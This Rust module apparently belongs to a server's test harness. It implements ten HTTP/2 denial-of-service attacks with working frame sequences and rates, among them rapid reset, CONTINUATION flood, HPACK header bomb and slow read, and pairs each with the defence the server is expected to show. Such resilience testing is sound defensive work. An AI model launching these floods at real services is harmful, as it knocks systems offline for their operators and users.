//! The attacks. Each has been somebody's bad day; where it has a number, it is named.

use std::{sync::LazyLock, time::Duration};

use futures::future::{LocalBoxFuture, join_all};
use tokio::{
    net::TcpStream,
    time::{Instant, sleep},
};

use super::{
    door::Way,
    line::{Ear, Ledger, Line, Stream, Tally},
    pace::Pace,
    wire::{
        END_HEADERS, END_STREAM, HEADER_TABLE_SIZE, INITIAL_WINDOW_SIZE, Kind, WIDEST, Wire, call, literal, remembered,
    },
};

/// How long an attack goes on while an honest caller is watched.
pub const LASTS: Duration = Duration::from_millis(2_500);
/// Between being sent away and knocking again. Who only knocks is another attack.
const REST: Duration = Duration::from_millis(50);
/// How long a connection may say nothing that lets it in: what the door allows, and half of it again.
const SILENCE: Duration = Duration::from_millis(7_500);

pub struct Attack {
    pub name: &'static str,
    /// Frames a second, or what the deed is made of, over all lines.
    pub rate: u32,
    /// Connections at once. More than the machine has processors, so that each of them is kept busy.
    pub lines: u32,
    pub play: Play,
    /// What the door has to do about it, besides not minding.
    pub answer: &'static str,
    pub answered: fn(&Tally) -> bool,
}

pub enum Play {
    /// What is said again and again on a connection, until it is cut; then on the next one.
    Words(fn(&mut Wire, Spot)),
    /// Anything else, at a pace for each line.
    Deed(Deed),
}

type Deed = fn(Way, Ledger, Vec<Pace>) -> LocalBoxFuture<'static, ()>;

/// Where in its attack a piece is: on which line, and which one since that connection was opened.
#[derive(Clone, Copy)]
pub struct Spot {
    line: u32,
    at: u32,
}

impl Spot {
    /// A new stream for each piece.
    fn stream(self) -> u32 {
        2 * self.at + 1
    }
}

impl Attack {
    /// Attacks for a time, on the thread that asks.
    pub async fn go(&self, way: Way, ledger: Ledger, lasts: Duration) {
        let paces = (0..self.lines).map(|_| Pace::new(f64::from(self.rate) / f64::from(self.lines), lasts));
        match self.play {
            Play::Words(words) => {
                let lines = paces.zip(0..).map(|(pace, line)| hammer(&way, &ledger, pace, line, words));
                drop(join_all(lines).await);
            }
            Play::Deed(deed) => deed(way, ledger, paces.collect()).await,
        }
    }
}

async fn hammer(way: &Way, ledger: &Ledger, mut pace: Pace, line: u32, words: fn(&mut Wire, Spot)) {
    while !pace.over() {
        if let Some(mut open) = enter(way, ledger, Ear::Open, &[]).await {
            let mut at = 0;
            while !open.closed()
                && let Some(due) = pace.due().await
            {
                let mut wire = Wire::default();
                while wire.frames < due {
                    words(&mut wire, Spot { line, at });
                    at += 1;
                }
                if open.say(&wire).await.is_err() {
                    break;
                }
            }
        }
        sleep(REST).await;
    }
}

/// A connection that has said what every connection begins with.
async fn enter(way: &Way, ledger: &Ledger, ear: Ear, settings: &[(u16, u32)]) -> Option<Line> {
    let Ok(Ok(stream)) = tokio::time::timeout(LASTS, way.connect(ear)).await else {
        ledger.note().refused += 1;
        return None;
    };
    let mut line = Line::over(stream, ear, ledger);
    line.say(&Wire::opening(settings)).await.ok().map(|()| line)
}

/// A method that anybody may call; its answer is some kilobytes.
static YEAR: LazyLock<Vec<u8>> = LazyLock::new(|| call("/yizhan.directory.v1.CalendarService/GetYear"));
/// 2016, as a message of gRPC.
const YEAR_2016: [u8; 8] = [0, 0, 0, 0, 3, 0x08, 0xe0, 0x0f];

/// Half of the lines ask as fast as they can; the other half put pings in between, so few at a time that each call is
/// begun before it is taken back.
pub const RAPID_RESET: Attack = Attack {
    name: "rapid reset (CVE-2023-44487)",
    rate: 20_000,
    lines: 4,
    play: Play::Words(|wire, spot| {
        wire.frame(Kind::Headers, END_HEADERS | END_STREAM, spot.stream(), &YEAR).reset(spot.stream());
        if !spot.line.is_multiple_of(2) {
            wire.ping(spot.at).ping(spot.at).ping(spot.at);
        }
    }),
    answer: "sends away who takes back what was asked",
    answered: |tally| tally.sent_away() > 0,
};

/// Four ways to make the server itself reset a stream that it has begun to work on.
pub const SERVER_RESET: Attack = Attack {
    name: "server-induced reset (CVE-2025-8671)",
    // Each second frame begins a call that the server does work on: 2,000 calls a second.
    rate: 4_000,
    lines: 4,
    play: Play::Words(|wire, spot| {
        let stream = spot.stream();
        wire.frame(Kind::Headers, END_HEADERS | END_STREAM, stream, &YEAR);
        match spot.line % 4 {
            0 => wire.window(stream, 0),
            1 => wire.window(stream, WIDEST),
            // It waits for itself.
            2 => wire.frame(Kind::Priority, 0, stream, &[&stream.to_be_bytes()[..], &[16]].concat()),
            _ => wire.frame(Kind::Data, 0, stream, &YEAR_2016),
        };
    }),
    answer: "sends away whose faults make it reset streams",
    answered: |tally| tally.sent_away() > 0,
};

pub const CONTINUATION: Attack = Attack {
    name: "CONTINUATION flood (CVE-2024-27316)",
    rate: 20_000,
    lines: 4,
    play: Play::Words(|wire, spot| {
        let more = if spot.line.is_multiple_of(2) { literal("x", "y") } else { Vec::new() };
        match spot.at {
            0 => wire.frame(Kind::Headers, END_STREAM, 1, &YEAR),
            _ => wire.frame(Kind::Continuation, 0, 1, &more),
        };
    }),
    answer: "sends away whose header does not end",
    answered: |tally| tally.sent_away() > 0,
};

/// Of no bytes, and of one byte of a long message.
pub const EMPTY_DATA: Attack = Attack {
    name: "empty DATA flood (CVE-2019-9518)",
    rate: 20_000,
    lines: 4,
    play: Play::Words(|wire, spot| {
        match (spot.at, spot.line % 2) {
            (0, _) => wire.frame(Kind::Headers, END_HEADERS, 1, &YEAR),
            (_, 0) => wire.frame(Kind::Data, 0, 1, &[]),
            (1, _) => wire.frame(Kind::Data, 0, 1, &[0, 0, 4, 0, 0]),
            _ => wire.frame(Kind::Data, 0, 1, &[0]),
        };
    }),
    answer: "sends away who sends nothing, again and again",
    answered: |tally| tally.sent_away() > 0,
};

pub const PING: Attack = Attack {
    name: "ping flood (CVE-2019-9512)",
    rate: 20_000,
    lines: 4,
    play: Play::Words(|wire, spot| {
        wire.ping(spot.at);
    }),
    answer: "answers pings, or sends the sender away",
    answered: |tally| tally.pongs + tally.sent_away() > 0,
};

/// Windows open and shut under ten calls that nobody has finished asking, and the table of headers comes and goes.
pub const SETTINGS: Attack = Attack {
    name: "settings flood (CVE-2019-9515)",
    rate: 20_000,
    lines: 4,
    play: Play::Words(|wire, spot| {
        let wide = spot.at % 2;
        match spot.at {
            0..10 => wire.frame(Kind::Headers, END_HEADERS, spot.stream(), &YEAR),
            _ => wire.settings(&[(INITIAL_WINDOW_SIZE, 65_535 * wide), (HEADER_TABLE_SIZE, 4_096 * wide)]),
        };
    }),
    answer: "acknowledges settings, or sends the sender away",
    answered: |tally| tally.settings_acks + tally.sent_away() > 0,
};

/// A header of sixteen kilobytes, and one of few bytes that stand for thirty megabytes.
pub const HEADER_BOMB: Attack = Attack {
    name: "header bomb (CVE-2016-6581)",
    rate: 400,
    lines: 4,
    play: Play::Words(|wire, spot| {
        static LONG: LazyLock<Vec<u8>> = LazyLock::new(|| {
            let more = (0..160).flat_map(|number| literal(&format!("x-{number}"), &"y".repeat(80)));
            YEAR.iter().copied().chain(more).collect()
        });
        static BOMB: LazyLock<Vec<u8>> = LazyLock::new(|| [&YEAR[..], &[0xbe; 8_000]].concat());
        static FUSE: LazyLock<Vec<u8>> = LazyLock::new(|| [&YEAR[..], &remembered("x", &"y".repeat(3_900))].concat());
        let block = match (spot.line % 2, spot.at) {
            (0, _) => &LONG,
            (_, 0) => &FUSE,
            _ => &BOMB,
        };
        wire.frame(Kind::Headers, END_HEADERS | END_STREAM, spot.stream(), block);
    }),
    answer: "sends away whose headers are far too large",
    answered: |tally| tally.sent_away() > 0,
};

/// Asks for much. Half of the lines open no window, the other half open all of them and do not read.
pub const SLOW_READ: Attack = Attack {
    name: "slow read (CVE-2019-9517)",
    // Calls. How many can be worked on is not what is tried here, but how much is kept of those.
    rate: 400,
    lines: 8,
    play: Play::Deed(|way, ledger, paces| {
        Box::pin(async move {
            let lines = paces.into_iter().zip(0..).map(|(pace, line)| read_slowly(&way, &ledger, pace, line));
            drop(join_all(lines).await);
        })
    }),
    answer: "lets them in: there is nothing wrong with asking",
    answered: |tally| tally.opened > 0,
};

async fn read_slowly(way: &Way, ledger: &Ledger, mut pace: Pace, line: u32) {
    let (ear, window) = if line.is_multiple_of(2) { (Ear::Open, 0) } else { (Ear::Deaf, WIDEST) };
    // Those that are full are kept: who reads slowly lets nothing go.
    let mut kept = Vec::new();
    while !pace.over() {
        if let Some(mut open) = enter(way, ledger, ear, &[(INITIAL_WINDOW_SIZE, window)]).await {
            let mut at = 0;
            while at < 128
                && !open.closed()
                && let Some(due) = pace.due().await
            {
                let mut wire = Wire::default();
                if at == 0 && ear == Ear::Deaf {
                    wire.window(0, WIDEST - 65_535);
                }
                for _ in 0..due {
                    let stream = Spot { line, at }.stream();
                    wire.frame(Kind::Headers, END_HEADERS, stream, &YEAR);
                    wire.frame(Kind::Data, END_STREAM, stream, &YEAR_2016);
                    at += 1;
                }
                if open.say(&wire).await.is_err() {
                    break;
                }
            }
            kept.push(open);
        }
        sleep(REST).await;
    }
}

/// A third says nothing, a third half a greeting, and a third is let in by TLS and then says nothing.
pub const SLOW_HANDSHAKE: Attack = Attack {
    name: "slow handshake",
    rate: 80,
    lines: 1,
    play: Play::Deed(|way, ledger, paces| {
        Box::pin(async move {
            let mut silent = Vec::new();
            for mut pace in paces {
                while let Some(due) = pace.due().await {
                    for _ in 0..due {
                        silent.extend(say_nothing(&way, &ledger, silent.len()).await);
                    }
                }
            }
            let last = Instant::now();
            while last.elapsed() < SILENCE && !silent.iter().all(Line::closed) {
                sleep(REST).await;
            }
        })
    }),
    answer: "shows out everybody who says nothing",
    answered: |tally| tally.closed == tally.opened,
};

async fn say_nothing(way: &Way, ledger: &Ledger, nth: usize) -> Option<Line> {
    let words = Wire { bytes: if nth % 3 == 1 { way.half_a_greeting() } else { Vec::new() }, frames: 0 };
    let stream = if nth % 3 == 2 { way.connect(Ear::Open).await } else { way.socket(Ear::Open).await.map(boxed) };
    let Ok(stream) = stream else {
        ledger.note().refused += 1;
        return None;
    };
    let mut line = Line::over(stream, Ear::Open, ledger);
    line.say(&words).await.ok().map(|()| line)
}

fn boxed(socket: TcpStream) -> Box<dyn Stream> {
    Box::new(socket)
}

/// Well-mannered connections, more and more of them, and none goes.
pub const CONNECTIONS: Attack = Attack {
    name: "connection flood",
    rate: 200,
    lines: 1,
    play: Play::Deed(|way, ledger, paces| {
        Box::pin(async move {
            let mut kept = Vec::new();
            for mut pace in paces {
                while let Some(due) = pace.due().await {
                    for _ in 0..due {
                        kept.extend(enter(&way, &ledger, Ear::Open, &[]).await);
                    }
                }
            }
        })
    }),
    answer: "lets in as many as it has places",
    answered: |tally| tally.opened > 0,
};

pub const ALL: [Attack; 10] = [
    RAPID_RESET,
    SERVER_RESET,
    CONTINUATION,
    EMPTY_DATA,
    PING,
    SETTINGS,
    HEADER_BOMB,
    SLOW_READ,
    SLOW_HANDSHAKE,
    CONNECTIONS,
];
